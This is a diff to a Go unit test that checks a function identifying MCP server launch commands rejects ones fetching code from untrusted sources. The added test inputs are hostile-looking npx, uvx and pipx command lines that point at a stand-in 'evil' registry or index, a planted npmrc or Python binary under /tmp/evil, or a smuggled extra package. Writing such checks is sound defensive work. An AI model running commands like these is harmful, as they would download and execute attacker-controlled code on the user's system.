@@ -412,6 +412,10 @@ func TestStdioServerFromElsewhere(t *testing.T) {
 		"npx --@modelcontextprotocol:registry=https://evil @modelcontextprotocol/server-postgres",
 		"uvx --index=https://evil mcp-server-git",
 		"npx ./local-server",
+		"npx --userconfig=/tmp/evil/npmrc -y @modelcontextprotocol/server-postgres",
+		"npx --cache mcp-server-git evil-pkg",
+		"uvx --python=/tmp/evil/python mcp-server-git",
+		"pipx run --pip-args=--index-url=https://evil mcp-server-git",
 	} {
 		if got := StdioServer(cmd); got != "" {
 			t.Errorf("StdioServer(%q) = %q, want unknown", cmd, got)
